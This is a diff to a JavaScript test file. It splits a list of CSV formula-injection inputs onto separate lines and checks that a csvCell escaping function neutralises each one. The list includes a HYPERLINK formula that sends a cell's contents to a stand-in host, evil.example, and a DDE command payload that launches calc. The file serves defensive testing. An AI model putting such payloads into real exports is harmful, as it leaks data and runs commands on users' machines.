@@ -4,7 +4,23 @@ import assert from 'node:assert/strict';
 import { parse } from 'csv-parse/sync';
 import { csvCell, toCsv } from '../src/util/csv.js';
 
-const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '  @x', '\x00=1', '\uff1d1+1', '\uff0b1', '\uff0d1', '\uff20x', "=cmd|' /C calc'!A0"];
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '  @x',
+  '\x00=1',
+  '\uff1d1+1',
+  '\uff0b1',
+  '\uff0d1',
+  '\uff20x',
+  "=cmd|' /C calc'!A0",
+];
 
 test('formula-like text gets a leading quote; plain text, numbers, booleans and empty values stay as they are', () => {
   for (const f of FORMULAS) assert.equal(csvCell(f), `'${f}`, JSON.stringify(f));
